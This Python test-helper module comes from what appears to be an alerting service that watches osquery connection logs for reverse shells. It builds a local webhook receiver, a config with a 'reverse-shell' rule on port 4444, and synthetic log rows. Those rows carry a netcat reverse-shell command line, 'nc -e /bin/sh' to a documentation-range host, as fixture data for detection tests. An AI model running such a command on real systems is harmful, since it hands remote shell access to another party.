"""Helpers of the operator tooling tests: a real receiver, a config, log lines, the
service as a subprocess and the command line.

The receiver (127.0.0.1, port 0) accepts POSTs to ``/hook`` with 200, answers
``/down`` with 503 (an endpoint in an outage) and any other path with 404, like a web
server behind a mistyped notifier URL. It counts the
``webhook-id`` of every accepted request.
"""

from __future__ import annotations

import json
import os
import signal
import subprocess
import sys
import threading
import time
from collections import Counter
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

REPO_ROOT = Path(__file__).resolve().parents[2]
TIMEOUT_SECS = 30.0


@dataclass
class Hit:
    """One request: path, headers, JSON body, status answered."""

    path: str
    headers: dict[str, str]
    body: Any
    status: int


@dataclass
class Receiver:
    """Answers 200 on ``/hook``, 503 on ``/down``, 404 elsewhere; records every request."""

    base: str = ""
    hits: list[Hit] = field(default_factory=list)
    lock: threading.Lock = field(default_factory=threading.Lock)

    @property
    def url(self) -> str:
        return self.base + "/hook"

    def accepted_ids(self) -> Counter[str]:
        with self.lock:
            return Counter(h.headers.get("webhook-id", "") for h in self.hits if h.status == 200)

    def count(self, status: int) -> int:
        with self.lock:
            return sum(1 for h in self.hits if h.status == status)


@contextmanager
def receiver() -> Iterator[Receiver]:
    state = Receiver()

    class Handler(BaseHTTPRequestHandler):
        def do_POST(self) -> None:
            body = self.rfile.read(int(self.headers.get("Content-Length", "0")))
            status = {"/hook": 200, "/down": 503}.get(self.path, 404)
            with state.lock:
                state.hits.append(
                    Hit(self.path, dict(self.headers.items()), json.loads(body or b"null"), status)
                )
            reply = b"ok" if status == 200 else b"no such hook"
            self.send_response(status)
            self.send_header("Content-Length", str(len(reply)))
            self.end_headers()
            self.wfile.write(reply)

        def log_message(self, format: str, *args: object) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    server.daemon_threads = True
    thread = threading.Thread(target=server.serve_forever, args=(0.05,), daemon=True)
    thread.start()
    state.base = f"http://127.0.0.1:{server.server_address[1]}"
    try:
        yield state
    finally:
        server.shutdown()
        server.server_close()
        thread.join(5)


def write_config(
    tmp: Path,
    url: str,
    *,
    log: Path | None = None,
    extra: str = "",
    name: str = "alerts.yaml",
) -> Path:
    """A config following ``log`` (default tmp/results.log) with rule ``reverse-shell``
    (remote port 4444) sending to webhook ``hook`` at ``url``."""
    log = log or tmp / "results.log"
    path = tmp / name
    path.write_text(
        f"""
log_level: info
state_dir: {tmp / "state"}
sources:
  - path: {log}
    start_at: beginning
    poll_interval_secs: 0.05
notifiers:
  - name: hook
    type: webhook
    url: {url}
delivery:
  initial_backoff_secs: 0.05
  max_backoff_secs: 0.2
  poll_interval_secs: 0.05
rules:
  - name: reverse-shell
    notify: [hook]
    remote_port: [4444]
{extra}
""",
        encoding="utf-8",
    )
    return path


def result_line(
    n: int,
    *,
    host: str = "web-01",
    cmdline: str = "",
    name: str = "nc",
    decorations: dict[str, str] | None = None,
) -> str:
    """One differential result line whose row connects to port 4444 (pid 1000 + n),
    with ``decorations`` when given (Fleet: ``host_uuid``, ``hostname``)."""
    columns = {
        "cmdline": cmdline or f"nc -e /bin/sh 198.51.100.7 4444 #{n}",
        "direction": "outbound",
        "family": "2",
        "local_address": "10.1.2.3",
        "local_port": str(40000 + n),
        "name": name,
        "path": "/usr/bin/nc",
        "pid": str(1000 + n),
        "protocol": "6",
        "remote_address": "198.51.100.7",
        "remote_port": "4444",
        "uid": "0",
        "username": "root",
    }
    doc = {
        "name": "pack_tracked_connections_tracked_connections",
        "hostIdentifier": host,
        "calendarTime": "Tue Sep  2 07:05:09 2025 UTC",
        "unixTime": 1756796709 + n,
        "epoch": 0,
        "counter": n,
        "numerics": False,
        "columns": columns,
        "action": "added",
    }
    if decorations is not None:
        doc["decorations"] = decorations
    return json.dumps(doc) + "\n"


def append_lines(log: Path, lines: list[str]) -> None:
    with log.open("a", encoding="utf-8") as f:
        f.write("".join(lines))


def env() -> dict[str, str]:
    out = dict(os.environ)
    out["PYTHONPATH"] = str(REPO_ROOT) + os.pathsep + out.get("PYTHONPATH", "")
    return out


def cli(*args: str) -> subprocess.CompletedProcess[str]:
    """``tracked-connections-alerts ARGS`` as a subprocess (text output)."""
    return subprocess.run(
        [sys.executable, "-m", "alert_service", *args],
        cwd=REPO_ROOT,
        env=env(),
        capture_output=True,
        text=True,
        timeout=TIMEOUT_SECS,
        check=False,
    )


def cli_json(*args: str) -> Any:
    done = cli(*args, "--json")
    assert done.returncode == 0, done.stderr
    return json.loads(done.stdout)


def wait_until(check: Callable[[], Any], timeout_secs: float = TIMEOUT_SECS) -> Any:
    """Poll ``check`` until it returns a true value; fail after ``timeout_secs``."""
    deadline = time.monotonic() + timeout_secs
    while True:
        value = check()
        if value:
            return value
        if time.monotonic() >= deadline:
            raise AssertionError(f"condition not met within {timeout_secs} s")
        time.sleep(0.05)


class Service:
    """``run --config FILE`` as a subprocess; its JSON log lines in ``stderr_path``."""

    def __init__(self, config: Path, stderr_path: Path) -> None:
        self.stderr_path = stderr_path
        self._err = stderr_path.open("wb")
        self.proc = subprocess.Popen(
            [sys.executable, "-m", "alert_service", "run", "--config", str(config)],
            cwd=REPO_ROOT,
            env=env(),
            stdout=subprocess.DEVNULL,
            stderr=self._err,
        )

    def events(self) -> list[dict[str, Any]]:
        out = []
        for line in self.stderr_path.read_text(encoding="utf-8", errors="replace").splitlines():
            try:
                out.append(json.loads(line))
            except ValueError:
                continue
        return out

    def wait_event(self, name: str, count: int = 1) -> list[dict[str, Any]]:
        def found() -> list[dict[str, Any]]:
            if self.proc.poll() is not None:
                raise AssertionError(f"service exited {self.proc.returncode}: {self.log()}")
            hits = [e for e in self.events() if e.get("event") == name]
            return hits if len(hits) >= count else []

        hits: list[dict[str, Any]] = wait_until(found)
        return hits

    def log(self) -> str:
        return self.stderr_path.read_text(encoding="utf-8", errors="replace")[-4000:]

    def signal(self, sig: int) -> None:
        self.proc.send_signal(sig)

    def stop(self) -> int:
        if self.proc.poll() is None:
            self.proc.send_signal(signal.SIGTERM)
            try:
                self.proc.wait(TIMEOUT_SECS)
            except subprocess.TimeoutExpired:
                self.proc.kill()
                self.proc.wait(5)
        self._err.close()
        return int(self.proc.returncode)


@contextmanager
def service(config: Path, stderr_path: Path) -> Iterator[Service]:
    svc = Service(config, stderr_path)
    try:
        svc.wait_event("service_started")
        yield svc
    finally:
        svc.stop()
